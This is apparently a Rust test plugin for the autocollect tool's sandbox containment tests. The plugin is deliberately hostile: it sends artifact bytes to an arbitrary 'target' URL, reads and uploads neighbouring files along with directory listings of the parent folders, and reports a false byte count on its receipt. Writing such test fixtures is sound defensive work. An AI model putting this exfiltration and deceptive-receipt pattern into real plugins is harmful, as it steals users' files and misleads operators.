//! A hostile uploader, for autocollect's containment tests. With
//! `mode = steal` (the default), instead of the upload URL the host gives
//! it, it PUTs the artifact's first bytes to the URL in its `target`
//! option: the host must refuse that request. With `mode = list`, it PUTs
//! to the real URL the names of everything it can see next to its
//! artifact, and the contents of every file there that is not the
//! artifact: the host must show it nothing but the artifact.
//!
//! Never configure it on a real node.

wit_bindgen::generate!({
    path: "../../wit",
    world: "uploader",
    generate_all,
});

use exports::autocollect::plugin::upload::{
    Guest, Options, PluginError, UploadReceipt, UploadRequest,
};
use wasi::http::outgoing_handler::handle;
use wasi::http::types::{ErrorCode, Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

struct HostileUploader;

fn target(options: &Options) -> Result<String, PluginError> {
    options
        .iter()
        .find(|(k, _)| k == "target")
        .map(|(_, v)| v.clone())
        .ok_or_else(|| PluginError::Internal("option `target` (a URL) is required".into()))
}

fn mode(options: &Options) -> String {
    options
        .iter()
        .find(|(k, _)| k == "mode")
        .map_or("steal".into(), |(_, v)| v.clone())
}

/// Everything visible beside the artifact: names, and other files' bytes.
fn look_around(artifact: &str) -> Vec<u8> {
    let dir = artifact.rsplit_once('/').map_or(".", |(d, _)| d);
    let mut seen = Vec::new();
    match std::fs::read_dir(dir) {
        Ok(entries) => {
            for entry in entries.flatten() {
                let path = entry.path();
                seen.extend_from_slice(format!("entry {}\n", path.display()).as_bytes());
                if path.to_str() != Some(artifact)
                    && let Ok(bytes) = std::fs::read(&path)
                {
                    seen.extend_from_slice(b"contents ");
                    seen.extend_from_slice(&bytes[..bytes.len().min(1024)]);
                    seen.push(b'\n');
                }
            }
        }
        Err(e) => seen.extend_from_slice(format!("list {dir}: {e}\n").as_bytes()),
    }
    for outside in [format!("{dir}/.."), format!("{dir}/../..")] {
        if let Ok(entries) = std::fs::read_dir(&outside) {
            for entry in entries.flatten() {
                seen.extend_from_slice(format!("outside {}\n", entry.path().display()).as_bytes());
            }
        }
    }
    seen
}

impl Guest for HostileUploader {
    fn validate_options(options: Options) -> Result<(), PluginError> {
        match mode(&options).as_str() {
            "list" => Ok(()),
            _ => target(&options).map(|_| ()),
        }
    }

    fn upload(request: UploadRequest) -> Result<UploadReceipt, PluginError> {
        let (target, stolen) = match mode(&request.options).as_str() {
            "list" => (request.url.clone(), look_around(&request.artifact_path)),
            _ => {
                let stolen = std::fs::read(&request.artifact_path)
                    .map_err(|e| PluginError::Internal(format!("read artifact: {e}")))?;
                (target(&request.options)?, stolen)
            }
        };
        let stolen = &stolen[..stolen.len().min(4096)];

        // http://authority/path, nothing fancier: this is a test plugin.
        let rest = target.strip_prefix("http://").unwrap_or(&target);
        let slash = rest.find('/').unwrap_or(rest.len());
        let request_out = OutgoingRequest::new(Fields::new());
        let _ = request_out.set_method(&Method::Put);
        let _ = request_out.set_scheme(Some(&Scheme::Http));
        let _ = request_out.set_authority(Some(&rest[..slash]));
        let _ = request_out.set_path_with_query(Some(&rest[slash..]));
        let body = request_out
            .body()
            .map_err(|_| PluginError::Internal("no body".into()))?;

        let sent = handle(request_out, None).and_then(|answer| {
            if let Ok(stream) = body.write() {
                let _ = stream.blocking_write_and_flush(&stolen[..stolen.len().min(4096)]);
            }
            OutgoingBody::finish(body, None)?;
            answer.subscribe().block();
            match answer.get() {
                Some(Ok(result)) => result.map(|r| r.status()),
                _ => Err(ErrorCode::InternalError(None)),
            }
        });
        // It claims the whole artifact went out (a lie the host cannot
        // see through here), unless `receipt=short` tells the truth.
        let short = request
            .options
            .iter()
            .any(|(k, v)| k == "receipt" && v == "short");
        let bytes_sent = if short {
            stolen.len() as u64
        } else {
            request.artifact_size
        };
        match sent {
            Ok(status) => Ok(UploadReceipt {
                url: target,
                status,
                bytes_sent,
                attempts: 1,
            }),
            Err(code) => Err(PluginError::Internal(format!("PUT {target}: {code:?}"))),
        }
    }
}

export!(HostileUploader);
